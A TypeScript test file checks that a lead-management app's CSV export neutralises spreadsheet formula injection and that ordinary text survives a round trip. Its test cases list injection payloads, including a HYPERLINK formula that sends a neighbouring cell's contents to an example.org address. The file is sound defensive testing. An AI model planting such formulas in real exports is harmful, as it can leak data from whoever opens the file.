import { blankDetails } from '@flowdeck/contract/leads/leads';
import fc from 'fast-check';
import Papa from 'papaparse';
import { expect, it } from 'vitest';
import { noConsent } from './consent.ts';
import { cellText } from '../csv.ts';
import { leadsToCsv, type ExportedLead } from './lead-csv.ts';

const lead: ExportedLead = {
  email: 'ada@analytical-engines.de',
  ...blankDetails,
  firstName: 'Ada',
  lastName: 'Lovelace',
  status: 'new',
  score: 30,
  source: 'website_form',
  location: 'Unknown',
  industry: 'Unknown',
  companySize: 'Unknown',
  note: '',
  tags: [],
  ...noConsent,
  createdAt: new Date('2026-03-10T14:30:00.000Z'),
};

const noteIn = (csv: string) => Papa.parse<{ Note: string }>(csv, { header: true }).data[0]?.Note;

it('writes nothing for no leads, unless it is the header', () => {
  expect(leadsToCsv([], false)).toBe('');
  expect(leadsToCsv([], true)).toMatch(/^\uFEFFEmail,.*Captured\r\n$/);
});

it.each([
  '=1+1',
  '+1',
  '-1',
  '@sum',
  '\t=1',
  '\r=1',
  ' =1',
  '\u200B\0=1',
  '＝1+1',
  '=HYPERLINK("https://example.org/?"&A2,\n"Click")',
])('disarms %j', (note) => {
  expect(noteIn(leadsToCsv([{ ...lead, note }], true))).toBe(`'${note}`);
});

it('keeps any text, so that a file that is read again says the same', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme' }), (text) => {
      // A text that already looks like a disarmed one cannot be told from it.
      fc.pre(cellText(text) === text && text.trimEnd() === text);
      const csv = leadsToCsv([{ ...lead, note: text }], true);
      expect(cellText(noteIn(csv) ?? '')).toBe(text);
    }),
  );
});
